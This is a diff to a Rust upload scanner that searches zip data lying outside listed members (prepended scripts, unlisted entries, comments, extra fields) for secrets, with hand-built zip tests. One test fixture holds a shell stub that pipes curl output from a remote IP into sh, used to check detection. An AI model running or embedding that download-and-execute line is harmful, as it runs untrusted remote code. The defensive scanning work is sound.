@@ -168,6 +168,20 @@ impl Scanner {
             }
             Some(data) => data,
         };
+        self.search_member(name, member, &data, budget, report);
+        Ok(true)
+    }
+
+    /// Searches the bytes of member `member` of archive `name` (text, or what is searched
+    /// whatever it holds), within the archive's findings limits.
+    fn search_member(
+        &self,
+        name: &str,
+        member: &str,
+        data: &[u8],
+        budget: &mut Budget,
+        report: &mut Report,
+    ) {
         report.files_scanned += 1;
         report.bytes_scanned += data.len() as u64;
         // Every finding carries its path: a member name of megabytes (a tar long name) would
@@ -181,7 +195,7 @@ impl Scanner {
         if room > 0 {
             let found = self.scan_limited(
                 &path,
-                &data,
+                data,
                 room.min(self.max_findings_per_file),
                 known_room.min(self.max_findings_per_file),
                 Search::Everything,
@@ -190,7 +204,7 @@ impl Scanner {
             budget.vault_found += known;
             budget.found += found.iter().filter(|f| f.rule != TOO_MANY).count() - known;
             report.findings.extend(found);
-            return Ok(true);
+            return;
         }
         // Past the findings limit the archive says so once, and its later members are
         // searched for vault values alone, so that no number of other findings can hide
@@ -204,12 +218,11 @@ impl Scanner {
         // depend on how often a vault value occurred, and the members counted after it
         // would tell that to the submitter.
         if known_room == 0 {
-            return Ok(true);
+            return;
         }
-        let found = self.scan_limited(&path, &data, 0, known_room, Search::VaultValues);
+        let found = self.scan_limited(&path, data, 0, known_room, Search::VaultValues);
         budget.vault_found += found.iter().filter(|f| f.rule != TOO_MANY).count();
         report.findings.extend(found);
-        Ok(true)
     }
 
     /// Scans the members of the archive at `path` into `report`.
@@ -261,8 +274,22 @@ impl Scanner {
                 {
                     report.skipped_binary += entries - zip.len() as u64;
                 }
+                let mut spans = Vec::with_capacity(zip.len());
+                let mut rest = Rest::default();
+                let mut complete = true;
                 for i in 0..zip.len() {
                     let mut member = zip.by_index(i).map_err(std::io::Error::other)?;
+                    let data_start = member.data_start();
+                    spans.push(Span {
+                        start: member.header_start(),
+                        data_start,
+                        end: data_start.saturating_add(member.compressed_size()),
+                        crc: member.crc32(),
+                    });
+                    rest.comments.extend_from_slice(member.comment().as_bytes());
+                    let extra = member.extra_data().unwrap_or_default();
+                    rest.unknown_extra |= !known_extra_fields(extra);
+                    rest.extras.extend_from_slice(extra);
                     // A member marked as a symbolic link is scanned too: unzip tools that
                     // ignore the mark write it out as a regular file. So is a "directory"
                     // with content (a name ending in `/` and data), which other readers
@@ -272,8 +299,23 @@ impl Scanner {
                     }
                     let member_name = member.name().to_owned();
                     if !self.take(name, &member_name, &mut member, 0, &mut budget, report)? {
+                        complete = false;
                         break;
                     }
+                }
+                if complete {
+                    rest.comments.extend_from_slice(zip.comment());
+                    let directory = zip.central_directory_start();
+                    let mut source = zip.into_inner();
+                    self.scan_zip_rest(
+                        name,
+                        &mut source,
+                        spans,
+                        directory,
+                        rest,
+                        &mut budget,
+                        report,
+                    )?;
                 }
             }
             Kind::Tar | Kind::TarGz => {
@@ -383,6 +425,150 @@ impl Scanner {
             }
         }
         Ok(report)
+    }
+}
+
+/// Where a zip member lies: its local header, its data, the end of its data, and its CRC
+/// (which a data descriptor after the data repeats).
+struct Span {
+    start: u64,
+    data_start: u64,
+    end: u64,
+    crc: u32,
+}
+
+/// What a zip's headers hold beside its members' names: comments, extra fields, and
+/// whether any extra field is one the scan does not know.
+#[derive(Default)]
+struct Rest {
+    comments: Vec<u8>,
+    extras: Vec<u8>,
+    unknown_extra: bool,
+}
+
+/// Extra fields a zip writer puts in headers (ZIP64 sizes, times, owners, NTFS times, a
+/// Unicode path, the JAR marker, alignment padding), each at most this long. Any other field,
+/// or a longer one, is content the scan does not read.
+const KNOWN_EXTRA_FIELDS: [u16; 10] = [
+    0x0001, 0x000a, 0x000d, 0x5455, 0x5855, 0x7855, 0x7875, 0x7075, 0xcafe, 0xd935,
+];
+const MAX_KNOWN_EXTRA_FIELD: usize = 1_100;
+
+/// Whether `extra` (a header's extra fields) holds only fields [`KNOWN_EXTRA_FIELDS`] names,
+/// or zeros (old alignment padding).
+fn known_extra_fields(mut extra: &[u8]) -> bool {
+    if extra.iter().all(|&b| b == 0) {
+        return true;
+    }
+    while extra.len() >= 4 {
+        let id = u16::from_le_bytes([extra[0], extra[1]]);
+        let size = usize::from(u16::from_le_bytes([extra[2], extra[3]]));
+        if !KNOWN_EXTRA_FIELDS.contains(&id)
+            || size > MAX_KNOWN_EXTRA_FIELD
+            || 4 + size > extra.len()
+        {
+            return false;
+        }
+        extra = &extra[4 + size..];
+    }
+    extra.is_empty()
+}
+
+impl Scanner {
+    /// What a zip holds beside its listed members' data, where readers that walk the local
+    /// headers (Java's `ZipInputStream`, `jar x`) or a shell (a script in front of the
+    /// archive) find content `unzip` does not list: bytes before, between or after the
+    /// members (unlisted entries, a self-extracting stub), unknown extra fields, comments.
+    /// Such bytes and unknown extra fields count as unscanned content, and the bytes are
+    /// searched as text; comments are searched as a member; every header's extra fields
+    /// are searched for vault values.
+    #[allow(clippy::too_many_arguments)]
+    fn scan_zip_rest<R: Read + Seek>(
+        &self,
+        name: &str,
+        source: &mut R,
+        mut spans: Vec<Span>,
+        directory: u64,
+        mut rest: Rest,
+        budget: &mut Budget,
+        report: &mut Report,
+    ) -> std::io::Result<()> {
+        use std::io::SeekFrom;
+        spans.sort_by_key(|span| span.start);
+        let mut outside: Vec<(u64, u64)> = Vec::new();
+        let mut at = 0;
+        for (i, span) in spans.iter().enumerate() {
+            if span.start > at {
+                outside.push((at, span.start));
+            }
+            // The local header's own extra fields.
+            let mut head = [0u8; 30];
+            source.seek(SeekFrom::Start(span.start))?;
+            source.read_exact(&mut head)?;
+            let name_len = u64::from(u16::from_le_bytes([head[26], head[27]]));
+            let extra_len = u16::from_le_bytes([head[28], head[29]]);
+            if extra_len > 0 && span.start + 30 + name_len + u64::from(extra_len) <= span.data_start
+            {
+                let mut extra = vec![0u8; usize::from(extra_len)];
+                source.seek(SeekFrom::Start(span.start + 30 + name_len))?;
+                source.read_exact(&mut extra)?;
+                rest.unknown_extra |= !known_extra_fields(&extra);
+                rest.extras.extend_from_slice(&extra);
+            }
+            // A data descriptor may follow the data: the CRC (after a signature or not) and
+            // the sizes, 4 or 8 bytes each, up to where the next header starts.
+            let next = spans.get(i + 1).map_or(directory, |s| s.start);
+            let mut end = span.end;
+            if next > end && next - end <= 24 {
+                let mut tail = vec![0u8; (next - end) as usize];
+                source.seek(SeekFrom::Start(end))?;
+                source.read_exact(&mut tail)?;
+                let crc = span.crc.to_le_bytes();
+                let signed = tail.starts_with(&[0x50, 0x4b, 0x07, 0x08]);
+                let descriptor = match (signed, tail.len()) {
+                    (true, 16 | 24) => tail[4..8] == crc,
+                    (false, 12 | 16) => tail[..4] == crc,
+                    _ => false,
+                };
+                if descriptor {
+                    end = next;
+                }
+            }
+            at = at.max(end);
+        }
+        if directory > at {
+            outside.push((at, directory));
+        }
+        if rest.unknown_extra {
+            report.skipped_binary += 1;
+        }
+        let room = self.max_findings.saturating_sub(budget.vault_found);
+        if room > 0 && !rest.extras.is_empty() {
+            let path = format!("{name}!(extra fields)");
+            let found = self.scan_limited(&path, &rest.extras, 0, room, Search::VaultValues);
+            budget.vault_found += found.iter().filter(|f| f.rule != TOO_MANY).count();
+            report.findings.extend(found);
+        }
+        if !rest.comments.is_empty() {
+            let mut reader = std::io::Cursor::new(rest.comments);
+            self.take(name, "(comments)", &mut reader, 0, budget, report)?;
+        }
+        let outside_len: u64 = outside.iter().map(|(from, to)| to - from).sum();
+        if outside_len > 0 {
+            report.skipped_binary += 1;
+            if outside_len <= self.max_file_size {
+                let mut bytes = Vec::with_capacity(outside_len as usize);
+                for (from, to) in outside {
+                    source.seek(SeekFrom::Start(from))?;
+                    source.by_ref().take(to - from).read_to_end(&mut bytes)?;
+                }
+                // Searched whatever they hold: an unlisted entry's header is binary, and
+                // its stored data is not.
+                let member = "(bytes outside the listed members)";
+                self.search_member(name, member, &bytes, budget, report);
+            }
+        }
+        Ok(())
     }
 }
 
@@ -505,6 +691,162 @@ mod tests {
             report.findings[0].context, "",
             "the scan stopped: no line is shown"
         );
+    }
+
+    /// A zip of stored members written by hand: `prefix` before it (a script in front of
+    /// the archive; offsets count from the zip's own start, as `cat stub a.zip` leaves
+    /// them), each member's data followed by a data descriptor when `descriptor`, `extra`
+    /// as every local header's extra fields, and `comment` as the archive's.
+    fn handmade_zip(
+        prefix: &[u8],
+        members: &[(&str, &[u8])],
+        descriptor: bool,
+        extra: &[u8],
+        comment: &[u8],
+    ) -> Vec<u8> {
+        let (mut zip, mut central) = (Vec::new(), Vec::new());
+        let flags: u16 = if descriptor { 8 } else { 0 };
+        for (name, data) in members {
+            let mut crc = flate2::Crc::new();
+            crc.update(data);
+            let (crc, size) = (crc.sum(), data.len() as u32);
+            let offset = zip.len() as u32;
+            let (local_crc, local_size) = if descriptor { (0, 0) } else { (crc, size) };
+            zip.extend_from_slice(&[0x50, 0x4b, 0x03, 0x04, 20, 0]);
+            zip.extend_from_slice(&flags.to_le_bytes());
+            zip.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
+            zip.extend_from_slice(&local_crc.to_le_bytes());
+            zip.extend_from_slice(&local_size.to_le_bytes());
+            zip.extend_from_slice(&local_size.to_le_bytes());
+            zip.extend_from_slice(&(name.len() as u16).to_le_bytes());
+            zip.extend_from_slice(&(extra.len() as u16).to_le_bytes());
+            zip.extend_from_slice(name.as_bytes());
+            zip.extend_from_slice(extra);
+            zip.extend_from_slice(data);
+            if descriptor {
+                zip.extend_from_slice(&[0x50, 0x4b, 0x07, 0x08]);
+                zip.extend_from_slice(&crc.to_le_bytes());
+                zip.extend_from_slice(&size.to_le_bytes());
+                zip.extend_from_slice(&size.to_le_bytes());
+            }
+            central.extend_from_slice(&[0x50, 0x4b, 0x01, 0x02, 20, 3, 20, 0]);
+            central.extend_from_slice(&flags.to_le_bytes());
+            central.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
+            central.extend_from_slice(&crc.to_le_bytes());
+            central.extend_from_slice(&size.to_le_bytes());
+            central.extend_from_slice(&size.to_le_bytes());
+            central.extend_from_slice(&(name.len() as u16).to_le_bytes());
+            central.extend_from_slice(&[0; 8]);
+            central.extend_from_slice(&(0o100644u32 << 16).to_le_bytes());
+            central.extend_from_slice(&offset.to_le_bytes());
+            central.extend_from_slice(name.as_bytes());
+        }
+        let start = zip.len() as u32;
+        zip.extend_from_slice(&central);
+        zip.extend_from_slice(&[0x50, 0x4b, 0x05, 0x06, 0, 0, 0, 0]);
+        zip.extend_from_slice(&(members.len() as u16).to_le_bytes());
+        zip.extend_from_slice(&(members.len() as u16).to_le_bytes());
+        zip.extend_from_slice(&(central.len() as u32).to_le_bytes());
+        zip.extend_from_slice(&start.to_le_bytes());
+        zip.extend_from_slice(&(comment.len() as u16).to_le_bytes());
+        zip.extend_from_slice(comment);
+        [prefix, &zip[..]].concat()
+    }
+
+    #[test]
+    fn what_a_zip_holds_outside_its_listed_members_is_searched_and_counted() {
+        let scanner = Scanner::new(RuleSet::builtin().unwrap())
+            .with_known_values(&[(b"AcmeDbPa55-Xq9rT7vLm2", "acme/app/db".into())]);
+        let clean: &[(&str, &[u8])] = &[("clean.txt", b"nothing here\n")];
+        // Zips as writers make them (data descriptors, Info-ZIP's time and owner fields):
+        // nothing outside.
+        let owner = [0x75, 0x78, 11, 0, 1, 4, 0xe8, 3, 0, 0, 4, 0xe8, 3, 0, 0];
+        for zip in [
+            handmade_zip(b"", clean, false, b"", b""),
+            handmade_zip(b"", clean, true, &owner, b""),
+        ] {
+            let report = scanner.scan_upload("d.zip", &zip).unwrap();
+            assert_eq!(
+                (
+                    report.files_scanned,
+                    report.skipped_binary,
+                    report.findings.len()
+                ),
+                (1, 0, 0),
+                "{:?}",
+                report.findings
+            );
+        }
+        let rules = |report: &crate::Report| -> Vec<(String, String)> {
+            report
+                .findings
+                .iter()
+                .map(|f| (f.path.clone(), f.rule.clone()))
+                .collect()
+        };
+        // A script in front of the archive, which `sh d.zip` runs and `unzip` skips.
+        let stub = b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | sh\nexit 0\n";
+        let report = scanner
+            .scan_upload("d.zip", &handmade_zip(stub, clean, false, b"", b""))
+            .unwrap();
+        assert_eq!(report.skipped_binary, 1);
+        assert!(
+            rules(&report).contains(&(
+                "d.zip!(bytes outside the listed members)".into(),
+                "download-and-execute-shell".into()
+            )),
+            "{:?}",
+            report.findings
+        );
+        // An entry the directory does not list, which Java's ZipInputStream extracts.
+        let hidden = handmade_zip(
+            b"",
+            &[("hidden.env", b"DB=AcmeDbPa55-Xq9rT7vLm2\n")],
+            false,
+            b"",
+            b"",
+        );
+        let end = hidden
+            .windows(4)
+            .position(|w| w == [0x50, 0x4b, 0x01, 0x02])
+            .unwrap();
+        let report = scanner
+            .scan_upload(
+                "d.zip",
+                &handmade_zip(&hidden[..end], clean, false, b"", b""),
+            )
+            .unwrap();
+        assert_eq!(report.skipped_binary, 1);
+        assert!(
+            report
+                .findings
+                .iter()
+                .any(|f| f.known.as_deref() == Some("acme/app/db")),
+            "{:?}",
+            report.findings
+        );
+        // The archive's comment, and a field of a kind no writer uses.
+        let report = scanner
+            .scan_upload(
+                "d.zip",
+                &handmade_zip(b"", clean, false, b"", LEAK.as_bytes()),
+            )
+            .unwrap();
+        assert_eq!(
+            rules(&report),
+            [(
+                "d.zip!(comments)".into(),
+                "github-personal-access-token".into()
+            )]
+        );
+        let mut field = vec![0x34, 0x12, 21, 0];
+        field.extend_from_slice(b"AcmeDbPa55-Xq9rT7vLm2");
+        let report = scanner
+            .scan_upload("d.zip", &handmade_zip(b"", clean, false, &field, b""))
+            .unwrap();
+        assert_eq!(report.skipped_binary, 1);
+        assert_eq!(report.findings[0].path, "d.zip!(extra fields)");
+        assert_eq!(report.findings[0].known.as_deref(), Some("acme/app/db"));
     }
 
     #[test]
